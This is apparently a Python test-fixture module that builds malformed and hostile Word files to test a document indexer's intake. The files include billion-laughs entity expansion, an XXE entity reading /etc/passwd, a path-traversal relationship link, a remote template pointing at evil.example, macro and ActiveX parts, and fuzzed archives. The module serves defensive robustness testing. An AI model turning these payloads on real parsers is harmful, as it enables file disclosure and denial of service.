"""Word files with entities, macros, links, endless tables and numbers that are none."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

from tests.indexer.intake.hostile import (
    LAUGHS,
    MAIN,
    SEED,
    Hostile,
    W,
    document_of,
    honest_docx,
    repacked,
    with_part,
    zipped,
)

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def office_files() -> Iterator[Hostile]:
    laughing = document_of(
        "<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'
    )
    outside = document_of(
        "<w:p><w:r><w:t>&file;</w:t></w:r></w:p>",
        '<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>',
    )
    long = document_of(
        f"<w:p><w:r><w:t>{'&long;' * 10_000}</w:t></w:r></w:p>",
        f'<!DOCTYPE x [<!ENTITY long "{"a" * 100_000}">]>',
    )
    part = MAIN
    yield Hostile("laughs.docx", with_part(part, laughing), "declares")
    yield Hostile(
        "blow-up.docx", repacked(lambda p: p.__setitem__(part, long), stored=True), "decl"
    )
    yield Hostile("outside.docx", with_part(part, outside), "declares")
    utf16 = '<?xml version="1.0" encoding="utf-16"?>' + laughing.decode()
    yield Hostile("utf16.docx", with_part(part, utf16.encode("utf-16")), "declares")
    yield Hostile("rels.docx", with_part("word/_rels/x.rels", laughing), "declares")
    deep = "<w:tbl>" * 5_000 + "</w:tbl>" * 5_000
    yield Hostile("deep.docx", with_part(part, document_of(deep)), "nested")
    tables = "<w:tbl><w:tr><w:tc>" * 60 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 60
    yield Hostile("tables.docx", with_part(part, document_of(tables)), "no text")
    yield Hostile("not-xml.docx", with_part(part, b"<w:document><w:body>"), "damaged")
    yield Hostile("macro.docx", with_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "macros")
    yield Hostile("docm.docx", repacked(_make_docm), "macros")
    yield Hostile("activex.docx", with_part("word/activeX/activeX1.bin", b"x"), "ActiveX")
    yield Hostile(
        "template.docx", repacked(_link("attachedTemplate", "http://evil.example/t.dotm")), None
    )
    yield Hostile("subdocument.docx", repacked(_link("subDocument", "part2.docx")), "another file")
    yield Hostile(
        "escape.docx", repacked(_link("image", "../../../../etc/passwd", mode="")), "outside"
    )
    yield Hostile("no-document.docx", repacked(lambda p: p.pop(part)), "damaged")
    yield Hostile("no-types.docx", repacked(lambda p: p.pop("[Content_Types].xml")), "zip archive")
    yield Hostile(
        "sheet.docx", zipped({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"<x/>"}), "Excel"
    )
    yield Hostile("chunk.docx", with_part(part, document_of("<w:altChunk/>")), "another file")
    yield Hostile("odd-numbers.docx", repacked(_odd_numbers))
    yield Hostile("wide-table.docx", with_part(part, document_of(_wide_table())))
    yield Hostile("locked.docx", _compound("EncryptedPackage"), "password")
    yield Hostile("old.doc", _compound("WordDocument"), "old Office")
    yield from _fuzzed_docx()


def _make_docm(parts: dict[str, bytes]) -> None:
    types = parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )


def _link(kind: str, target: str, mode: str = "External") -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        relation = f'<Relationship Id="rX" Type="{_OFFICE}/{kind}" Target="{target}"'
        relation += f' TargetMode="{mode}"/>' if mode else "/>"
        name = "word/_rels/document.xml.rels"
        parts[name] = parts[name].replace(
            b"</Relationships>", f"{relation}</Relationships>".encode()
        )

    return change


def _odd_numbers(parts: dict[str, bytes]) -> None:
    """A list that points at itself, levels beyond all bounds, numbers that are none."""
    levels = "".join(
        f'<w:lvl w:ilvl="{place}"><w:start w:val="{start}"/><w:numFmt w:val="lowerLetter"/>'
        f'<w:lvlText w:val="(%{place + 1})"/></w:lvl>'
        for place, start in ((0, 2147483647), (1, -5), (2, "x"))
    )
    parts["word/numbering.xml"] = (
        f'<w:numbering xmlns:w="{W}">'
        f'<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="A"/></w:abstractNum>'
        f'<w:abstractNum w:abstractNumId="2">{levels}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
        '<w:num w:numId="2"><w:abstractNumId w:val="2"/></w:num></w:numbering>'
    ).encode()
    parts["word/styles.xml"] = (
        f'<w:styles xmlns:w="{W}"><w:style w:type="numbering" w:styleId="A"><w:basedOn w:val="A"/>'
        '<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style></w:styles>'
    ).encode()
    paragraphs = "".join(
        f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{list_id}"/></w:numPr>'
        "</w:pPr><w:r><w:t>Staff shall not do this.</w:t></w:r></w:p>"
        for level, list_id in ((0, 1), (99_999, 2), (-3, 2), (0, 2), (2, 2), (1, 77))
    )
    parts[MAIN] = document_of(paragraphs)


def _wide_table() -> str:
    words = "<w:p><w:r><w:t>a b</w:t></w:r></w:p>"
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>{words}</w:tc>'
    return f"<w:tbl><w:tr>{cell * 3}</w:tr><w:tr>{cell}</w:tr></w:tbl>"


def _compound(stream: str) -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + stream.encode("utf-16-le") + bytes(2_000)
    )


def _fuzzed_docx() -> Iterator[Hostile]:
    chance = random.Random(SEED)
    for number in range(6):
        part = chance.choice([MAIN, "word/styles.xml", "word/numbering.xml"])

        def change(parts: dict[str, bytes], part: str = part) -> None:
            content = bytearray(parts[part])
            for _ in range(chance.randint(1, 40)):
                content[chance.randrange(len(content))] = chance.randrange(256)
            parts[part] = bytes(content)

        yield Hostile(f"fuzzed-part-{number}.docx", repacked(change))
    whole = honest_docx()
    for number in range(4):
        content = bytearray(whole)
        for _ in range(60):
            content[chance.randrange(len(content))] = chance.randrange(256)
        yield Hostile(f"fuzzed-{number}.docx", bytes(content))
